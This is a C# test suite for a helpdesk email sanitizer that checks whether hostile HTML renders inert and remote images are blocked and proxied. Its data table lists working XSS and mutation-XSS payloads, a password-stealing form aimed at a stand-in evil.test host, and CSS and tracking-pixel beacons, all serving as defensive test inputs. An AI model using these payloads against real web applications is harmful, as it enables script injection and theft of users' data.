using AngleSharp.Dom;
using Helpdesk.Core.HtmlSafety;

namespace Helpdesk.Tests.Security;

[Trait("Category", "Security")]
public sealed class UntrustedHtmlTests
{
    private static readonly UntrustedHtml Untrusted = new();

    private static readonly Dictionary<string, string> NoInlineImages = new(ContentIds.Comparer);

    public static TheoryData<string, string> HostileMarkup => new()
    {
        { "script element", "<p>hi</p><script>window.__pwned=1</script>" },
        { "img onerror", "<img src=x onerror=\"window.__pwned=1\">" },
        { "body onload", "<body onload=\"window.__pwned=1\"><p>hi</p></body>" },
        { "svg onload", "<svg onload=\"window.__pwned=1\"><circle r=4 /></svg>" },
        { "svg with script", "<svg><script>window.__pwned=1</script></svg>" },
        { "javascript: link", "<a href=\"javascript:window.__pwned=1\">click</a>" },
        { "javascript: link, entity encoded", "<a href=\"jav&#x09;ascript&colon;window.__pwned=1\">click</a>" },
        { "data: html link", "<a href=\"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+\">click</a>" },
        { "data: svg image", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">" },
        { "iframe", "<iframe src=\"https://evil.test/\"></iframe>" },
        { "object", "<object data=\"https://evil.test/x.swf\"></object>" },
        { "form with controls", "<form action=\"https://evil.test/steal\"><input name=password><button>Log in</button><select><option>a</option></select><textarea></textarea></form>" },
        { "input type=image", "<input type=\"image\" src=\"https://evil.test/pixel.png\">" },
        { "base", "<base href=\"https://evil.test/\"><a href=\"x\">x</a>" },
        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">" },
        { "link stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.test/a.css\">" },
        { "style element url", "<style>body{background:url(https://evil.test/bg.png)}</style><p>x</p>" },
        { "style attribute url", "<p style=\"color:red;background-image:url('https://evil.test/bg.png')\">x</p>" },
        { "style attribute escaped url", "<p style=\"background:u\\72l(https://evil.test/bg.png)\">x</p>" },
        { "style attribute image-set", "<p style=\"background-image:image-set('https://evil.test/a.png' 1x)\">x</p>" },
        { "background attribute", "<table background=\"https://evil.test/bg.png\"><tr><td>x</td></tr></table>" },
        { "remote img", "<img src=\"https://evil.test/pixel.png\">" },
        { "protocol-relative img", "<img src=\"//evil.test/pixel.png\">" },
        { "srcset", "<img srcset=\"https://evil.test/a.png 1x, https://evil.test/b.png 2x\">" },
        { "relative img to the console", "<img src=\"/admin/people?delete=1\">" },
        { "video poster", "<video poster=\"https://evil.test/p.png\"></video>" },
        { "mXSS noscript", "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\"></noscript>" },
        { "mXSS svg style", "<svg><style><img src=x onerror=window.__pwned=1></style></svg>" },
        { "mXSS math mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>" },
        { "mXSS form in math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>" },
        { "DOM clobbering", "<img name=\"Blazor\" id=\"app\"><a id=\"blazor-error-ui\" name=\"x\">x</a>" },
        { "template", "<template><img src=x onerror=window.__pwned=1></template>" },
    };

    [Theory]
    [MemberData(nameof(HostileMarkup))]
    public void Render_HostileMarkup_IsInert(string vector, string html)
    {
        _ = vector; // names the row in the test output
        var safe = Untrusted.Render(html, NoInlineImages);

        InertHtml.Assert(safe.Html);
    }

    [Theory]
    [MemberData(nameof(HostileMarkup))]
    public void InertHtmlAssert_HostileMarkupAsReceived_Fails(string vector, string html)
    {
        _ = vector; // names the row in the test output

        Assert.ThrowsAny<Xunit.Sdk.XunitException>(() => InertHtml.Assert(html));
    }

    [Theory]
    [InlineData("<img src=\"https://evil.test/pixel.png\" alt=\"logo\">", "https://evil.test/pixel.png")]
    [InlineData("<img src=\"//evil.test/pixel.png\">", "https://evil.test/pixel.png")]
    [InlineData("<img srcset=\"http://evil.test/a.png 1x, http://evil.test/b.png 2x\">", "http://evil.test/a.png")]
    public void Render_RemoteImage_IsBlockedMarkedAndListed(string html, string url)
    {
        var safe = Untrusted.Render(html, NoInlineImages);

        var image = Assert.Single(InertHtml.Assert(safe.Html).Body!.QuerySelectorAll("img"));
        Assert.Null(image.GetAttribute("src"));
        Assert.Equal("0", image.GetAttribute("data-hd-remote-image"));
        Assert.Equal([url], safe.RemoteImages);
    }

    [Fact]
    public void Render_SameRemoteImageTwice_ListsItOnce()
    {
        var safe = Untrusted.Render("<img src=\"https://a.test/1.png\"><img src=\"https://b.test/2.png\"><img src=\"https://a.test/1.png\">", NoInlineImages);

        Assert.Equal(["https://a.test/1.png", "https://b.test/2.png"], safe.RemoteImages);
        Assert.Equal(["0", "1", "0"], InertHtml.Parse(safe.Html).QuerySelectorAll("img").Select(i => i.GetAttribute("data-hd-remote-image")));
    }

    [Fact]
    public void Render_RemoteImageInsideRemovedElement_IsNotListed()
    {
        var safe = Untrusted.Render("<form><img src=\"https://a.test/in-form.png\"></form><img src=\"https://a.test/kept.png\">", NoInlineImages);

        Assert.Equal(["https://a.test/kept.png"], safe.RemoteImages);
        Assert.Single(InertHtml.Assert(safe.Html).QuerySelectorAll("img"));
    }

    [Fact]
    public void Render_MarkerSetByTheMail_IsNotTrusted()
    {
        var safe = Untrusted.Render("<img data-hd-remote-image=\"3\" alt=\"x\">", NoInlineImages);

        Assert.Empty(InertHtml.Parse(safe.Html).QuerySelectorAll("img"));
        Assert.Empty(safe.RemoteImages);
    }

    [Fact]
    public void Render_RasterDataImage_IsKept()
    {
        const string Png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgAAACAAFUok9dAAAAAElFTkSuQmCC";

        var safe = Untrusted.Render($"<img src=\"{Png}\" alt=\"dot\">", NoInlineImages);

        Assert.Equal(Png, InertHtml.Assert(safe.Html).QuerySelector("img")!.GetAttribute("src"));
    }

    [Fact]
    public void Render_StylesThatWidenOrMoveTheEntry_AreDroppedOthersKept()
    {
        var safe = Untrusted.Render("<img src=\"data:image/png;base64,iVBORw0KGgo=\" style=\"max-width:none !important;min-width:4000px;width:4000px;"
            + "transform:translate(-500px,-500px) scale(9);transform-origin:0 0;perspective:10px;color:red\">", NoInlineImages);

        var style = InertHtml.Assert(safe.Html).QuerySelector("img")!.GetAttribute("style")!;
        Assert.Equal("width: 4000px; color: rgba(255, 0, 0, 1)", style);
    }

    [Fact]
    public void Render_Link_KeepsTargetAndOpensWithoutReferrer()
    {
        var safe = Untrusted.Render("<a href=\"https://docs.example/faq\" target=\"_self\" rel=\"opener\">FAQ</a>", NoInlineImages);

        var link = InertHtml.Assert(safe.Html).QuerySelector("a")!;
        Assert.Equal(("https://docs.example/faq", "_blank", "noopener noreferrer nofollow"), (link.GetAttribute("href"), link.GetAttribute("target"), link.GetAttribute("rel")));
    }

    [Fact]
    public void WithRemoteImages_MarkedImages_PointAtTheProxyOfThatEntry()
    {
        var stored = Untrusted.Render("<p>Chart:</p><img src=\"https://a.test/1.png\"><img src=\"https://b.test/2.png\">", NoInlineImages).Html;

        var loaded = Untrusted.WithRemoteImages(stored, 17);

        Assert.Equal(["/case-log/17/remote-images/0", "/case-log/17/remote-images/1"],
            InertHtml.Assert(loaded).QuerySelectorAll("img").Select(i => i.GetAttribute("src")));
    }
}
